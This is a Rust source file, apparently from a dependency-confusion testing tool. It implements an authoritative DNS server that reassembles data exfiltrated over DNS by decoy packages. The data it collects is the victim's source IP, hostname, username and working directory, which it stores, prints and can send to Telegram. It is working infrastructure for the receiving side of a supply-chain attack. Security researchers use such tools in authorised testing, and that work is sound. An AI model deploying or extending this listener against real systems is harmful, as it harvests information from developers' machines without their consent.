//! Authoritative DNS listener that answers every query and reassembles
//! payloads sent by decoy packages.

use crate::exfil::record::decode_payload;
use crate::exfil::session::{parse_query_name, SessionStore};
use crate::exfil::store::{Confirmation, ConfirmationStore};
use crate::notify::{ConsoleOutput, TelegramNotifier};
use crate::types::{DepconfError, ExfiltratedRecord, Result};
use async_trait::async_trait;
use hickory_server::{
    authority::MessageResponseBuilder,
    proto::{
        op::{Header, ResponseCode},
        rr::{rdata::A, LowerName, Name, RData, Record, RecordType},
    },
    server::{Request, RequestHandler, ResponseHandler, ResponseInfo},
};
use std::collections::HashMap;
use std::net::{IpAddr, Ipv4Addr, SocketAddr};
use std::str::FromStr;
use std::sync::Arc;
use std::time::Duration;
use tracing::{error, info, warn};

/// TTL of every answer, so resolvers keep forwarding queries to us.
const ANSWER_TTL: u32 = 1;

/// Validated listener configuration.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct ListenerSettings {
    /// Zone this listener is authoritative for, lowercase, no trailing dot.
    pub domain: String,
    pub public_ip: Ipv4Addr,
    /// Extra `hostname -> ip` A records.
    pub records: Vec<(String, Ipv4Addr)>,
    pub listen: SocketAddr,
    /// Idle time after which an incomplete session is dropped.
    pub session_ttl: Duration,
}

fn normalize(name: &str) -> String {
    name.trim_end_matches('.').to_lowercase()
}

/// Static A records: the domain, its two nameservers and configured hosts.
#[derive(Debug, Clone)]
pub struct AnswerTable {
    answers: HashMap<String, Ipv4Addr>,
}

impl AnswerTable {
    pub fn new(settings: &ListenerSettings) -> Self {
        let mut answers = HashMap::new();
        answers.insert(normalize(&settings.domain), settings.public_ip);
        answers.insert(format!("ns1.{}", normalize(&settings.domain)), settings.public_ip);
        answers.insert(format!("ns2.{}", normalize(&settings.domain)), settings.public_ip);
        for (hostname, ip) in &settings.records {
            answers.insert(normalize(hostname), *ip);
        }
        Self { answers }
    }

    pub fn lookup(&self, name: &str) -> Option<Ipv4Addr> {
        self.answers.get(&normalize(name)).copied()
    }
}

/// Where decoded confirmations go: the store, the console and optionally Telegram.
#[derive(Clone)]
pub struct ConfirmationSink {
    store: Arc<dyn ConfirmationStore>,
    console: Arc<ConsoleOutput>,
    telegram: Option<Arc<TelegramNotifier>>,
}

impl ConfirmationSink {
    pub fn new(store: Arc<dyn ConfirmationStore>, console: ConsoleOutput) -> Self {
        Self {
            store,
            console: Arc::new(console),
            telegram: None,
        }
    }

    pub fn with_telegram(mut self, notifier: TelegramNotifier) -> Self {
        self.telegram = Some(Arc::new(notifier));
        self
    }

    /// Persist a record and fan it out. Failures are logged only.
    pub async fn record(&self, record: ExfiltratedRecord) -> Option<Confirmation> {
        let confirmation = match self.store.add(&record).await {
            Ok(confirmation) => confirmation,
            Err(e) => {
                error!("Failed to persist confirmation for {}: {}", record.package_name, e);
                return None;
            }
        };

        info!(
            "Source IP: {}; Hostname: {}; Username: {}; CWD: {}; Package: {}",
            confirmation.source_ip,
            confirmation.hostname,
            confirmation.username,
            confirmation.working_directory,
            confirmation.package
        );
        self.console.print_confirmation(&confirmation);

        if let Some(telegram) = &self.telegram {
            if let Err(e) = telegram.send_confirmation(&confirmation).await {
                warn!("Failed to send Telegram notification: {}", e);
            }
        }
        Some(confirmation)
    }
}

/// Request handler for the listener.
#[derive(Clone)]
pub struct ExfilHandler {
    zone: LowerName,
    answers: Arc<AnswerTable>,
    sessions: SessionStore,
    sink: ConfirmationSink,
}

impl ExfilHandler {
    pub fn new(settings: &ListenerSettings, sink: ConfirmationSink) -> Result<Self> {
        let zone = Name::from_str(&settings.domain).map_err(|e| {
            DepconfError::ConfigError(format!("invalid domain {}: {}", settings.domain, e))
        })?;

        Ok(Self {
            zone: LowerName::from(zone),
            answers: Arc::new(AnswerTable::new(settings)),
            sessions: SessionStore::new(settings.session_ttl),
            sink,
        })
    }

    pub fn sessions(&self) -> &SessionStore {
        &self.sessions
    }

    /// Feed one query name into reassembly. Returns the decoded record when
    /// this query completed a session.
    pub fn ingest(&self, name: &str, source_ip: IpAddr) -> Option<ExfiltratedRecord> {
        let chunk = parse_query_name(name)?;
        let payload = self.sessions.accept(&chunk)?;

        match decode_payload(&payload, &source_ip.to_string()) {
            Ok(record) => Some(record),
            Err(e) => {
                warn!("Failed to decode session {}: {}", chunk.token, e);
                None
            }
        }
    }

    /// A record for a query, if one is configured.
    pub fn answer(&self, name: &str, query_type: RecordType) -> Option<Ipv4Addr> {
        if query_type != RecordType::A {
            return None;
        }
        self.answers.lookup(name)
    }

    async fn respond<R: ResponseHandler>(
        &self,
        request: &Request,
        mut response_handle: R,
    ) -> std::io::Result<ResponseInfo> {
        let builder = MessageResponseBuilder::from_message_request(request);
        let mut header = Header::response_from_request(request.header());
        header.set_authoritative(true);
        let mut records = Vec::new();
        let source = request.src();

        for query in request.queries() {
            let name = query.name().to_string();

            if self.zone.zone_of(query.name()) {
                info!(
                    "Received DNS interaction from {}: {} ({})",
                    source.ip(),
                    name,
                    query.query_type()
                );
            }

            if let Some(record) = self.ingest(&name, source.ip()) {
                let sink = self.sink.clone();
                tokio::spawn(async move {
                    sink.record(record).await;
                });
            }

            if let Some(ip) = self.answer(&name, query.query_type()) {
                records.push(Record::from_rdata(
                    query.name().into(),
                    ANSWER_TTL,
                    RData::A(A(ip)),
                ));
            }
        }

        let response = builder.build(header, records.iter(), &[], &[], &[]);
        response_handle.send_response(response).await
    }
}

#[async_trait]
impl RequestHandler for ExfilHandler {
    async fn handle_request<R: ResponseHandler>(
        &self,
        request: &Request,
        response_handle: R,
    ) -> ResponseInfo
    where
        R: ResponseHandler + Send,
    {
        match self.respond(request, response_handle).await {
            Ok(info) => info,
            Err(e) => {
                error!("Error sending DNS response: {}", e);
                let mut header = Header::response_from_request(request.header());
                header.set_response_code(ResponseCode::ServFail);
                header.into()
            }
        }
    }
}

/// Bind the UDP socket and serve until the server stops.
pub async fn run_listener(settings: &ListenerSettings, sink: ConfirmationSink) -> Result<()> {
    let handler = ExfilHandler::new(settings, sink)?;
    let reaper = handler.sessions().spawn_reaper();

    let mut server = hickory_server::server::ServerFuture::new(handler);
    server.register_socket(tokio::net::UdpSocket::bind(settings.listen).await?);
    info!(
        "Listener starting on {} for {} (answering with {})",
        settings.listen, settings.domain, settings.public_ip
    );

    let result = server.block_until_done().await;
    reaper.abort();
    result.map_err(std::io::Error::from)?;
    Ok(())
}
